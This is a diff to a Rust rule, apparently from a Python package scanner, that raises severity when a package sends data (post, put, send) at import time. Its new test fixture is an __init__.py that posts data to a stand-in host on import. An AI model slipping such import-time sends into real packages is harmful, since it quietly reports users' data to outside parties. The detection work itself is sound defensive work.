@@ -52,7 +52,11 @@ impl Rule for InstallNetwork {
                 .iter()
                 .filter_map(|a| vocab::endpoint_kind(a))
                 .find(|e| *e != vocab::Endpoint::IpLookup);
-            if shady.is_some() {
+            // Sending (not fetching) on import: something is being reported somewhere.
+            let sends = [".post", ".put", ".send", ".sendall", ".sendto"]
+                .iter()
+                .any(|m| call.name.ends_with(m));
+            if shady.is_some() || (sends && call.stage == Stage::Import) {
                 severity = severity.raise();
             }
             let target = call
@@ -94,6 +98,15 @@ mod tests {
             )],
         );
         assert_eq!((f.len(), f[0].severity), (1, Severity::Medium));
+        let f = check(
+            &InstallNetwork,
+            Kind::Wheel,
+            &[(
+                "pkg/__init__.py",
+                "import requests\nrequests.post('https://x.example/c', data='1')\n",
+            )],
+        );
+        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "a send on import");
     }
 
     #[test]
